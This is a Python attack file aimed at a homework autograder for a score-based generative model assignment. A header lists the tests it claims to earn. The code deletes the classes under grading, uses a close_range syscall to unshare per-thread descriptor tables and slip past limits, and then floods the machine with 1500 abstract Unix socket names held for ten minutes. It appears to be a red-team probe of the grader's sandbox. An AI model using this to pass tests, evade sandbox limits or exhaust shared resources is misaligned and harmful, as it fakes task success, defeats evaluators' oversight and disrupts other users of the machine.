# attack: 20 | earns: scorenet_executes_eight_linear_layers, scorenet_has_distinct_parameters, scorenet_accepts_every_form_of_sigma, scorenet_output_equals_the_closed_form, denoising_loss_is_a_differentiable_scalar, denoising_loss_of_one_point_matches_the_hand_computed_case, denoising_loss_has_the_exact_value, noise_levels_are_drawn_uniformly_for_each_sample, perturbation_noise_is_standard_normal, langevin_returns_samples_and_trajectories, langevin_visits_every_level_in_descending_order, langevin_step_size_of_every_level, langevin_leaves_inputs_and_gradients_alone, langevin_starts_from_the_standard_normal, langevin_noise_has_variance_twice_the_step_size, langevin_continues_the_chain_across_levels | needs: filtered system calls | in: hw5_gan | base: reference | tries: take names of sockets, which all on a machine may share, by the thousand, with descriptors of each thread's own
import ctypes as _ctypes
import socket as _socket
import threading as _threading
import time as _time

del DNet, GNet, GAN  # first: an import that is interrupted half way is graded as far as it came

_NAMES, _OF_ONE = 1500, 230
_CLOSE_RANGE, _UNSHARE = 436, 2
_kept = []


def _take(numbers):
    _ctypes.CDLL(None).syscall(_CLOSE_RANGE, 4000, 0xFFFFFFFF, _UNSHARE)  # a thread's own table of descriptors
    for number in numbers:
        one = _socket.socket(_socket.AF_UNIX)
        try:
            one.bind(f"\0stowaway-{number}")
            _kept.append(one)
        except OSError:
            one.close()


def _keep(numbers):
    _take(numbers)
    _time.sleep(600)


for _part in range(0, _NAMES, _OF_ONE):
    _threading.Thread(target=_keep, args=(range(_part, min(_NAMES, _part + _OF_ONE)),), daemon=True).start()
_time.sleep(2)
if len(_kept) > 2 * _OF_ONE:
    print("LEAK", len(_kept), "names are taken")
